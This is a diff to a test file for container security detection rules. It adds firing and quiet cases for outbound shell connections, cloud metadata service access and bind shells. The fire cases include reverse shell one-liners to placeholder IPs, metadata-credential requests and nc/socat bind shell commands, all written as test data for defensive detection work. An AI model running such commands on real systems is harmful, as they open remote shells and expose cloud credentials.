@@ -1,6 +1,6 @@
 // Events that must fire and near misses that must not, per rule of d4c's pack (rules/), keyed by
 // rule_id. A case is one document or a list (a sequence, fed in order).
-import { type Doc, exec, fileEv, type ProcSpec, patch } from '../rules/helpers.js';
+import { type Doc, exec, fileEv, netEv, type ProcSpec, patch } from '../rules/helpers.js';
 
 export type Case = Doc | Doc[];
 export interface RuleCases {
@@ -28,7 +28,71 @@ const read = (path: string, p: ProcSpec = { args: ['cat', path] }): Doc =>
   patch(fileEv('open', path, p), { event: { type: ['access'] } });
 const SA = '/var/run/secrets/kubernetes.io/serviceaccount/token';
 
+const connect = (ip: string, port: number, p: ProcSpec, transport = 'tcp'): Doc =>
+  netEv('connection_attempted', { transport, destination: { ip, port } }, { interactive: false, ...p });
+const listen = (port: number, p: ProcSpec): Doc =>
+  netEv('listen', { destination: { ip: '0.0.0.0', port } }, { interactive: false, ...p });
+
 export const CASES: Record<string, RuleCases> = {
+  '6cab67ed-f7c0-4bcc-893b-670b7b0e90fb': {
+    name: 'Shell or Interpreter One-Liner Connecting Out of a Container',
+    fire: [
+      connect('203.0.113.7', 4444, { args: ['bash', '-i'] }),
+      connect('2001:db8::7', 443, { args: ['sh', '-c', 'exec 3<>/dev/tcp/x/443'] }),
+      connect('198.51.100.2', 9001, {
+        args: ['python3', '-c', 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.2",9001))'],
+      }),
+      connect('198.51.100.2', 53, { args: ['perl', '-e', 'use Socket;...'] }),
+    ],
+    quiet: [
+      connect('127.0.0.1', 8080, { args: ['bash', '-c', 'echo > /dev/tcp/127.0.0.1/8080'] }),
+      connect('::1', 5432, { args: ['sh'] }),
+      connect('10.0.0.9', 5432, { args: ['python3', '/app/manage.py', 'migrate'] }),
+      connect('203.0.113.7', 443, { args: ['curl', 'https://example.com'] }),
+      connect('10.96.0.10', 53, { args: ['bash'] }, 'udp'),
+      netEv(
+        'connection_accepted',
+        { source: { ip: '203.0.113.7', port: 5000 }, destination: { ip: '10.0.0.5', port: 22 } },
+        { args: ['bash'] },
+      ),
+    ],
+  },
+  '9e9bcf5a-9792-48f5-a083-3e9da06ddb2a': {
+    name: 'Container Connection to the Cloud Instance Metadata Service',
+    fire: [
+      connect('169.254.169.254', 80, { args: ['curl', 'http://169.254.169.254/latest/meta-data/iam/'] }),
+      connect('fd00:ec2::254', 80, { args: ['python3', 'app.py'] }),
+      connect('100.100.100.200', 80, { args: ['wget', '-qO-', 'http://100.100.100.200/latest/meta-data/'] }),
+    ],
+    quiet: [
+      ns(connect('169.254.169.254', 80, { args: ['aws-node'] }), 'kube-system'),
+      connect('169.254.170.2', 80, { args: ['python3', 'app.py'] }),
+      connect('10.0.0.1', 80, { args: ['curl', 'http://10.0.0.1/'] }),
+      netEv('bind', { destination: { ip: '169.254.169.254', port: 80 } }, { args: ['imds-proxy'] }),
+    ],
+  },
+  '3bca3eea-2efb-47ce-89c7-92150600c47a': {
+    name: 'Bind Shell Listening in a Container',
+    fire: [
+      listen(4444, { args: ['nc', '-lvnp', '4444', '-e', '/bin/sh'] }),
+      listen(1337, { args: ['socat', 'TCP-LISTEN:1337,fork', 'EXEC:/bin/bash'] }),
+      listen(9999, { args: ['nc', '-l', '-p', '9999'], name: 'busybox', executable: '/bin/busybox' }),
+      listen(8000, {
+        args: ['python3', '-c', 'import socket;s=socket.socket();s.bind(("",8000));s.listen()'],
+      }),
+    ],
+    quiet: [
+      listen(80, { args: ['nginx', '-g', 'daemon off;'] }),
+      listen(8000, { args: ['python3', '-m', 'http.server'] }),
+      listen(8080, { args: ['httpd', '-f', '-p', '8080'], name: 'busybox', executable: '/bin/busybox' }),
+      netEv(
+        'bind',
+        { transport: 'udp', destination: { ip: '0.0.0.0', port: 5353 } },
+        { args: ['nc', '-u', '-l'] },
+      ),
+      connect('203.0.113.7', 4444, { args: ['nc', '203.0.113.7', '4444'] }),
+    ],
+  },
   '82c782d4-b12d-4a45-a3b9-637300f65ca1': {
     name: 'Interactive Shell in a Production Kubernetes Namespace',
     fire: [ns(tty(['bash']), 'payments'), ns(tty(['/bin/sh', '-i']), 'default')],
